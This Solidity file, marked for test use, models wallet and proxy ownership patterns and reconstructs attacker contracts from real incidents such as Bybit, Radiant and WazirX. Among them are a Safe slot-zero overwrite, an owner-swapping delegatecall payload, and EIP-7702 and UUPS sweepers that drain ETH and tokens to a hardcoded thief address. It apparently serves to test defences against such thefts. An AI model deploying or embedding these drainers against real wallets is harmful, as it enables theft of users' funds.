// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Ownable2Step} from "@openzeppelin/contracts/access/Ownable2Step.sol";

/// What a user commands, and what thieves make them hand over. Test use only.

/// ds-proxy: the owner runs any code as the proxy (Maker, 2018); `setOwner` gives it all away ($55 M, Aug 2024).
contract DSProxyLike {
    address public owner;

    constructor(address owner_) {
        owner = owner_;
    }

    receive() external payable {}

    function setOwner(address owner_) external {
        require(msg.sender == owner, "ds-auth-unauthorized");
        owner = owner_;
    }

    function execute(address target, bytes calldata data) external payable returns (bytes memory result) {
        require(msg.sender == owner, "ds-auth-unauthorized");
        bool done;
        (done, result) = target.delegatecall(data);
        require(done, "ds-proxy-target-failed");
    }
}

contract ProxyActions {
    function transfer(address token, address to, uint256 amount) external {
        require(IERC20(token).transfer(to, amount), "transfer");
    }

    function giveAway(address to) external {
        // ds-proxy keeps its owner in slot 0.
        assembly {
            sstore(0, to)
        }
    }
}

contract OwnedTill is Ownable {
    constructor(address owner_) Ownable(owner_) {}

    receive() external payable {}

    function withdraw() external onlyOwner {
        payable(owner()).transfer(address(this).balance);
    }
}

contract SteppedTill is Ownable2Step {
    constructor(address owner_) Ownable(owner_) {}

    receive() external payable {}

    function withdraw() external onlyOwner {
        payable(owner()).transfer(address(this).balance);
    }
}

contract RoleTill is AccessControl {
    constructor(address admin) {
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
    }

    receive() external payable {}

    function withdraw() external onlyRole(DEFAULT_ADMIN_ROLE) {
        payable(msg.sender).transfer(address(this).balance);
    }
}

/// The first proxies' own upgrade functions, open to their owner.
contract OldProxy {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    constructor(address implementation, address admin) {
        assembly {
            sstore(SLOT, implementation)
            sstore(ADMIN, admin)
        }
    }

    function upgradeTo(address implementation) external onlyAdmin {
        _set(implementation);
    }

    function upgradeToAndCall(address implementation, bytes calldata data) external payable onlyAdmin {
        _set(implementation);
        (bool done,) = implementation.delegatecall(data);
        require(done, "call");
    }

    function changeAdmin(address admin) external onlyAdmin {
        assembly {
            sstore(ADMIN, admin)
        }
    }

    modifier onlyAdmin() {
        address admin;
        assembly {
            admin := sload(ADMIN)
        }
        require(msg.sender == admin, "admin");
        _;
    }

    function _set(address implementation) private {
        assembly {
            sstore(SLOT, implementation)
        }
    }

    receive() external payable {}

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if done { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
}

/// A proxy admin contract, as OpenZeppelin's of version 4: the user owns it, it commands the proxy.
interface IProxy {
    function upgradeTo(address) external;
    function changeAdmin(address) external;
}

contract AdminOfProxies is Ownable {
    constructor(address owner_) Ownable(owner_) {}

    function upgrade(address proxy, address implementation) external onlyOwner {
        IProxy(proxy).upgradeTo(implementation);
    }

    function changeProxyAdmin(address proxy, address admin) external onlyOwner {
        IProxy(proxy).changeAdmin(admin);
    }
}

contract PlainVault {
    function kind() external pure returns (uint256) {
        return 1;
    }
}

contract SweepingVault {
    function sweep(address token, address to) external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }

    function sweepEther(address payable to) external {
        to.transfer(address(this).balance);
    }
}

/// Code for a Safe to run by delegatecall (Bybit, Feb 2025): writes slot 0, where a Safe keeps its singleton.
contract SlotZeroWriter {
    uint256 private _slotZero;

    function transfer(address singleton, uint256) external {
        _slotZero = uint256(uint160(singleton));
    }
}

/// The code Bybit's Safe ran afterwards.
contract SweepingSingleton {
    address private _singleton;

    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }

    receive() external payable {}
}

/// Delegatecall code that adds an owner without the Safe's own functions (Radiant, WazirX: control passes, nothing moves).
contract OwnerSwapper {
    address private _singleton;
    mapping(address => address) private _modules;
    mapping(address => address) private _owners;
    uint256 private _ownerCount;
    uint256 private _threshold;

    function setupToken(address thief) external {
        _owners[thief] = _owners[address(1)];
        _owners[address(1)] = thief;
        _ownerCount += 1;
        _threshold = 1;
    }

    function enable(address module) external {
        _modules[module] = address(1);
        _modules[address(1)] = module;
    }
}

/// EIP-7702 code: whoever wrote it commands every account that delegates to it.
contract DelegatedSweeper {
    address private immutable _thief = msg.sender;

    receive() external payable {
        _thief.call{value: address(this).balance}("");
    }

    function sweep(address[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            IERC20(tokens[i]).transfer(_thief, IERC20(tokens[i]).balanceOf(address(this)));
        }
        _thief.call{value: address(this).balance}("");
    }
}

contract DelegatedExecutor {
    address private immutable _thief = msg.sender;

    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == _thief || msg.sender == address(this), "denied");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(done, "call");
        }
    }

    receive() external payable {}
}

/// A staking position that can be handed on, or withdrawn to somebody (EigenLayer, GMX, LP shares).
contract Positions {
    struct Withdrawal {
        address staker;
        address delegatedTo;
        address withdrawer;
        uint256 nonce;
        uint32 startBlock;
        address[] strategies;
        uint256[] shares;
    }

    struct QueuedWithdrawalParams {
        address[] strategies;
        uint256[] shares;
        address withdrawer;
    }

    mapping(address => uint256) public staked;
    mapping(address => address) public pendingReceivers;
    mapping(address => uint256) public queued;
    IERC20 public immutable token;

    constructor(IERC20 token_) {
        token = token_;
    }

    function stakeFor(address user, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        staked[user] += amount;
    }

    /// EigenLayer's DelegationManager, as it was attacked in 2024: the withdrawer need not be the staker.
    function queueWithdrawals(QueuedWithdrawalParams[] calldata asked) external {
        for (uint256 i = 0; i < asked.length; i++) {
            for (uint256 k = 0; k < asked[i].shares.length; k++) {
                staked[msg.sender] -= asked[i].shares[k];
                queued[asked[i].withdrawer] += asked[i].shares[k];
            }
        }
    }

    /// EigenLayer's StrategyManager of 2023.
    function queueWithdrawal(
        uint256[] calldata,
        address[] calldata,
        uint256[] calldata shares,
        address withdrawer,
        bool
    ) external returns (bytes32) {
        for (uint256 k = 0; k < shares.length; k++) {
            staked[msg.sender] -= shares[k];
            queued[withdrawer] += shares[k];
        }
        return bytes32(0);
    }

    function completeQueued() external {
        uint256 amount = queued[msg.sender];
        queued[msg.sender] = 0;
        token.transfer(msg.sender, amount);
    }

    /// GMX's reward router: everything the account has, to another.
    function signalTransfer(address receiver) external {
        pendingReceivers[msg.sender] = receiver;
    }

    function acceptTransfer(address sender) external {
        require(pendingReceivers[sender] == msg.sender, "not signaled");
        staked[msg.sender] += staked[sender];
        staked[sender] = 0;
    }

    /// ERC-4626 and Aave shapes: the receiver is an argument.
    function withdraw(uint256 amount, address receiver, address owner) external returns (uint256) {
        require(msg.sender == owner, "owner");
        staked[owner] -= amount;
        token.transfer(receiver, amount);
        return amount;
    }

    function exitTo(address receiver) external {
        uint256 amount = staked[msg.sender];
        staked[msg.sender] = 0;
        token.transfer(receiver, amount);
    }

    /// Lido's withdrawal queue.
    function requestWithdrawals(uint256[] calldata amounts, address owner) external {
        for (uint256 i = 0; i < amounts.length; i++) {
            staked[msg.sender] -= amounts[i];
            queued[owner] += amounts[i];
        }
    }
}

/// UUPS code of the thief's for an account that upgrades itself.
contract UupsSweeper is SweepingVault {
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }
}

/// An honest EIP-7702 wallet's code: only the account itself may make it call.
contract OwnExecutor {
    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "denied");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(done, "call");
        }
    }

    receive() external payable {}
}

/// The ENS registry's part that matters here (EIP-137).
contract NameRegistry {
    mapping(bytes32 => address) public owner;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    address private immutable _root = msg.sender;

    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
    event Transfer(bytes32 indexed node, address owner);

    function assign(bytes32 node, address to) external {
        require(msg.sender == _root);
        owner[node] = to;
    }

    function setOwner(bytes32 node, address to) external {
        require(msg.sender == owner[node] || isApprovedForAll[owner[node]][msg.sender], "owner");
        owner[node] = to;
        emit Transfer(node, to);
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
        emit ApprovalForAll(msg.sender, operator, approved);
    }
}
